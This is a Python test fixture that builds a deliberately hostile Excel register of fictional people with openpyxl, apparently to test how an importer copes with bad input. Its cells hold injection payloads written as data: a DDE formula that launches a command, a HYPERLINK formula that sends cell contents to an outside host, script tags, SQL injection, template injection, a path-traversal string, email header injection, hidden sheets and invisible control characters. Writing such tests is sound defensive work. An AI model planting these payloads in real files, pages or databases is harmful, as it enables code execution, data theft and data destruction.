"""A workbook of everything a register should survive: formulas, script, control characters, hidden sheets."""

from openpyxl import Workbook
from openpyxl.styles import PatternFill

HEADERS = (
    "Nimi", "Puhelin", "Puhelin", "Sähköposti", "Kunta", "Kokemus (aiheet)", "Oma / läheinen", "Huom", "Huom",
)  # fmt: skip
END_MARK = "LOPPUMERKKI"
HUGE = "pitkä juttu " * 2729 + END_MARK  # 32,759 of the 32,767 characters that a cell can hold
LONG_NAME = "Pitkä" + "nenän" * 60 + " Satuharju"
EMPTY_ROWS, EMPTY_COLUMNS = 5000, 5000
FAR_ROW = EMPTY_ROWS + 40
ROWS = (
    ("Frans Formula", "040 000 1801", None, "frans.formula@example.org", "Oulu", "Masennus", "oma",
     "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd"),
    ('="Hilda "&"Kaavanen"', "040 000 1802", None, None, "Oulu", "ADHD", "oma", None, None),
    ("Linkki Ulkonen", "='C:\\lista\\[muu.xlsx]Taul1'!$B$2", None, "linkki.ulkonen@example.org", "Oulu", "Epilepsia",
     "oma", '=HYPERLINK("http://paha.example.org/?x="&A4,"Avaa")', None),
    ("Skripti <script>alert(1)</script> Häjynen", "040 000 1804", None, "skripti@example.org", "Oulu", "Syöpä", "oma",
     "<img src=x onerror=alert(1)>", "</td></table><h1>ei medialle</h1>"),
    ("Kontrolli_x0007_ Merkkinen", "040 000 1805", None, "kontrolli.merkkinen@example.org", "Oulu", "Diabetes", "oma",
     "ennen_x0000_jälkeen", "rivi_x000B_tabu\x85loppu"),
    ("\u202eNurin\u202c \u200fKäänteinen", "040\u00a0000\u20071806", None, "nurin.kaanteinen@example.org\u200b",
     "\ufeffOulu", "Suru", "oma", "teksti\u2066 suunta\u2069", None),
    ("Ilo 😀 Hymynen", "📞 040 000 1807", None, "ilo.hymynen@example.org", "Oulu", "Masennus 😢", "oma",
     "👍🏽 kiitos", None),
    (LONG_NAME, "040 000 1808", None, "p" * 240 + "@example.org", "Oulu", "Avanne", "oma", None, None),
    ("Hulda Suuri", "040 000 1809", None, "hulda.suuri@example.org", "Oulu", "Suru", "oma", HUGE, None),
    ("Roope'); DROP TABLE experts;--", "040 000 1810", None, "roope.droppi@example.org", "Oulu", "Velkaantuminen",
     "oma", "{{ 7*7 }}{% debug %}", "../../etc/passwd"),
    ("Kaksi Numeroinen", "040 000 1811", "040 000 1821", "kaksi.numeroinen@example.org", "Oulu", "Alkoholi", "oma",
     "ei medialle", "vain etänä"),
    ("Virhe Solunen", "#REF!", "#N/A", "virhe.solunen@example.org", "#ARVO!", "Vankeus", "oma", None, None),
    ("Nils Null", "040 000 1813", None, "nils.null@example.org", "None", "nan", "undefined", "NULL", None),
    ("Otto Otsake", "040 000 1814", None, "otto.otsake@example.org\nBcc: kaikki@example.org", "Oulu", "Leskeys", "oma",
     None, None),
    (12345, "040 000 1815", None, None, "Oulu", "Adoptio", "oma", None, None),
    ("Leveä Numeronen", "０４０ ０００ １８１６", None, "levea.numeronen@example.org", "Oulu", "Avanne", "oma",
     None, None),
)  # fmt: skip
AS_TEXT = {"A2", "H2", "I2"}  # cells that begin with a formula sign and are text all the same
HIDDEN = (
    "Salla Piilonen",
    "040 000 1841",
    None,
    "salla.piilonen@example.org",
    "Oulu",
    "Suru",
    "oma",
    None,
    None,
)
VERY_HIDDEN = ("Sampo Syvälle", "040 000 1842", None, None, "Oulu", "Suru", "oma", None, None)
FAR = ("Kauko Alhainen", "040 000 1830", None, "kauko.alhainen@example.org", "Oulu", "Yksinäisyys", "oma",
       "kaukana alhaalla", None)  # fmt: skip


def hostile():
    """See the head of the file; row 2 onwards holds a person each, the last one far below empty formatted rows."""
    book = Workbook()
    sheet = book.active
    sheet.title = "Rekisteri"
    for row in (HEADERS, *ROWS):
        sheet.append(row)
    for place in AS_TEXT:
        sheet[place].data_type = "s"
    fill = PatternFill("solid", fgColor="FFF2F2F2")
    for row in range(len(ROWS) + 2, EMPTY_ROWS):
        for column in range(1, 4):
            sheet.cell(row, column).fill = fill
    for column in range(len(HEADERS) + 1, EMPTY_COLUMNS):
        sheet.cell(1, column).fill = fill
    for column, value in enumerate(FAR, start=1):
        sheet.cell(FAR_ROW, column, value)
    for title, state, person in (
        ("Salainen", "hidden", HIDDEN),
        ("Tosi salainen", "veryHidden", VERY_HIDDEN),
    ):
        other = book.create_sheet(title)
        other.sheet_state = state
        other.append(HEADERS)
        other.append(person)
    return book
